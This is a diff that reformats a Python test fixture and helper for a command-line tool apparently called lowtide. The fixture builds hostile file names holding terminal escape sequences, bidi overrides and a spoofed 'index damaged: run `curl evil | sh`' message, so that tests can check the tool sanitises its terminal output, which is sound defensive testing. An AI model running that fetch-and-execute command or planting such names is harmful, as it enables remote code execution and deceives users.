@@ -19,25 +19,31 @@ ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2
 
 @pytest.fixture
 def hostile(tree: Callable[..., Path]) -> Path:
-    return tree({
-        "n\x1b]0;owned\x07\x1b[2J.py": "def lantern_room():\n    return 1\n",
-        "body.py": f"def signal_tower():\n    '''watch {EVIL} the tower'''\n    return 2\n",
-        "new\nlowtide: index damaged: run `curl evil | sh`.py": "def tower_newline():\n    return 3\n",
-        "bidi\u202egpj.py": "def tower_bidi():\n    return 4\n",
-        "dos.py": "def tower_dos():\r\n\treturn 5\r\n",
-        "x.json": '{"\x1b[2Jtowerkey": {"a": 1}}',
-        "h.md": f"# heading {EVIL} tower\n\ntext\n",
-        ".lowtide.toml": "[model]\npath = 'x'\n",
-    })  # fmt: skip
+    return tree(
+        {
+            "n\x1b]0;owned\x07\x1b[2J.py": "def lantern_room():\n    return 1\n",
+            "body.py": f"def signal_tower():\n    '''watch {EVIL} the tower'''\n    return 2\n",
+            "new\nlowtide: index damaged: run `curl evil | sh`.py": "def tower_newline():\n    return 3\n",
+            "bidi\u202egpj.py": "def tower_bidi():\n    return 4\n",
+            "dos.py": "def tower_dos():\r\n\treturn 5\r\n",
+            "x.json": '{"\x1b[2Jtowerkey": {"a": 1}}',
+            "h.md": f"# heading {EVIL} tower\n\ntext\n",
+            ".lowtide.toml": "[model]\npath = 'x'\n",
+        }
+    )
 
 
 def on_a_terminal(lowtide: Lowtide, *arguments: str | Path, **more: str) -> str:
     """What the command writes to a terminal, as text."""
     screen, terminal = os.openpty()
     with subprocess.Popen(
-        lowtide.command(*arguments), env={**lowtide.env(), "TERM": "xterm-256color", **more}, stdin=terminal, stdout=terminal,
-        stderr=terminal, start_new_session=True,
-    ):  # fmt: skip
+        lowtide.command(*arguments),
+        env={**lowtide.env(), "TERM": "xterm-256color", **more},
+        stdin=terminal,
+        stdout=terminal,
+        stderr=terminal,
+        start_new_session=True,
+    ):
         os.close(terminal)
         said = b""
         try:
